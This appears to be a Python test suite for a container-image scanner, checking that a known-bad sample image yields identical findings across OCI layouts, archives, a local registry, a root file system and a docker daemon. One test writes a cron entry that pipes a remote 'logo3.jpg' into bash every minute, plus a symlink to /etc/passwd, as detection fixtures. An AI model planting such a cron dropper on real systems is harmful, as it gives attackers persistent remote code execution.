"""The same image gives the same findings wherever it comes from, through the programs that people use."""
import contextlib
import os
import shutil
import socket
import subprocess
import sys
import time

import support  # first: it sets the path
import images
import incident_2018

for program in ("skopeo", "docker-registry"):
    if shutil.which(program) is None:
        print(f"skipped: {program} is not installed")
        sys.exit(support.SKIP)


def free_port():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        return server.getsockname()[1]


@contextlib.contextmanager
def sample():
    """An OCI layout of one bad image, with its findings as read from there."""
    with support.temporary_folder() as folder:
        image, _ = incident_2018.images()["cronm"]
        images.write_layout(f"{folder}/oci", {"latest": image})
        _, report, _ = support.scan(f"oci:{folder}/oci", check=1)
        yield folder, support.facts(report)


@contextlib.contextmanager
def registry(folder):
    port = free_port()
    config = f"{folder}/registry.yml"
    with open(config, "w") as out:
        out.write(f"version: 0.1\nlog: {{level: error}}\nstorage: {{filesystem: {{rootdirectory: {folder}/registry}}}}\nhttp: {{addr: '127.0.0.1:{port}'}}\n")
    process = subprocess.Popen(["docker-registry", "serve", config], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(100):
            with socket.socket() as client:
                if client.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.1)
        yield f"127.0.0.1:{port}"
    finally:
        process.terminate()
        process.wait()


def copy(*arguments):
    support.run("skopeo", "--insecure-policy", "copy", "-q", *arguments)


def test_archives_that_skopeo_makes():
    with sample() as (folder, expected):
        copy(f"oci:{folder}/oci:latest", f"docker-archive:{folder}/docker.tar:test/cronm:1")
        copy(f"oci:{folder}/oci:latest", f"oci-archive:{folder}/oci.tar:latest")
        copy("--dest-compress-format", "zstd", f"oci:{folder}/oci:latest", f"oci:{folder}/zstd:latest")
        copy("--dest-decompress", f"oci:{folder}/oci:latest", f"oci:{folder}/plain:latest")
        subprocess.run(["gzip", "-k", f"{folder}/docker.tar"], check=True)
        for target in (f"docker-archive:{folder}/docker.tar", f"docker-archive:{folder}/docker.tar.gz", f"oci-archive:{folder}/oci.tar", f"oci:{folder}/zstd", f"oci:{folder}/plain",
                       f"{folder}/docker.tar", f"{folder}/zstd"):
            _, report, _ = support.scan(target, check=1)
            assert support.facts(report) == expected, f"{target}: {support.facts(report)} instead of {expected}"


def test_a_registry():
    with sample() as (folder, expected), registry(folder) as host:
        copy("--dest-tls-verify=false", f"oci:{folder}/oci:latest", f"docker://{host}/test/cronm:1")
        for target in (f"docker://{host}/test/cronm:1", f"{host}/test/cronm:1"):
            # The option takes one host, so that it may stand before the target.
            _, report, _ = support.scan("--insecure-registry", host, target, check=1)
            assert support.facts(report) == expected, f"{target}: {support.facts(report)}"
        _, report, _ = support.scan("--tls-verify=false", f"docker://{host}/test/cronm:1", check=1)
        assert support.facts(report) == expected
        code, _, problem = support.scan(f"docker://{host}/test/cronm:1")
        assert code == 2 and host in problem, (code, problem)
        code, report, problem = support.scan(f"docker://{host}/test/missing:1", "--insecure-registry", host)
        assert code == 2 and report is None and "no such image" in problem, (code, problem)


def test_a_layer_that_is_cached_is_not_downloaded_again():
    with sample() as (folder, expected), registry(folder) as host:
        copy("--dest-tls-verify=false", f"oci:{folder}/oci:latest", f"docker://{host}/test/cronm:1")
        support.scan(f"docker://{host}/test/cronm:1", "--insecure-registry", host, check=1, cache=f"{folder}/cache")
        # Without its layers the registry can only serve an audit that needs none.
        blobs = f"{folder}/registry/docker/registry/v2/blobs/sha256"
        for folder_path, _, files in os.walk(blobs):
            for name in files:
                path = os.path.join(folder_path, name)
                with open(path, "rb") as data:
                    if data.read(2) == b"\x1f\x8b":
                        os.unlink(path)
        _, report, _ = support.scan(f"docker://{host}/test/cronm:1", "--insecure-registry", host, check=1, cache=f"{folder}/cache")
        assert support.facts(report) == expected
        assert not report["coverage"]["incomplete"]


def test_a_root_file_system():
    with support.temporary_folder() as folder:
        os.makedirs(f"{folder}/root/etc/cron.d")
        with open(f"{folder}/root/etc/cron.d/job", "w") as out:
            out.write("* * * * * root curl -s http://203.0.113.196:8220/logo3.jpg | bash -s\n")
        os.symlink("/etc/passwd", f"{folder}/root/link")
        _, report, _ = support.scan(f"rootfs:{folder}/root", check=1)
        assert any(f["location"]["path"] == "/etc/cron.d/job" and f["category"] in ("persistence", "dropper") for f in report["findings"])
        assert not report["coverage"]["incomplete"], report["coverage"]


@contextlib.contextmanager
def docker_daemon(folder):
    socket_path = f"{folder}/docker.sock"
    log = open(f"{folder}/dockerd.log", "w")
    process = subprocess.Popen(["dockerd", "--data-root", f"{folder}/docker", "--exec-root", f"{folder}/exec", "-H", f"unix://{socket_path}", "--pidfile", f"{folder}/docker.pid",
                                "--iptables=false", "--bridge=none", "--storage-driver=vfs"], stdout=log, stderr=log)
    try:
        for _ in range(200):
            if os.path.exists(socket_path) and subprocess.run(["docker", "-H", f"unix://{socket_path}", "version"], capture_output=True).returncode == 0:
                break
            if process.poll() is not None:
                break
            time.sleep(0.1)
        yield socket_path if process.poll() is None else None
    finally:
        process.terminate()
        process.wait()


def test_a_docker_daemon():
    if shutil.which("dockerd") is None or os.geteuid() != 0:
        print("skipped: dockerd needs root")
        return
    with sample() as (folder, expected), docker_daemon(folder) as socket_path:
        if socket_path is None:
            print("skipped: dockerd does not start here")
            return
        copy(f"oci:{folder}/oci:latest", f"docker-archive:{folder}/docker.tar:test/cronm:1")
        support.run("docker", "-H", f"unix://{socket_path}", "load", "-i", f"{folder}/docker.tar")
        _, report, _ = support.scan("docker-daemon:test/cronm:1", check=1, env={"DOCKER_HOST": f"unix://{socket_path}"})
        assert support.facts(report) == expected, support.facts(report)


if __name__ == "__main__":
    support.main(globals())
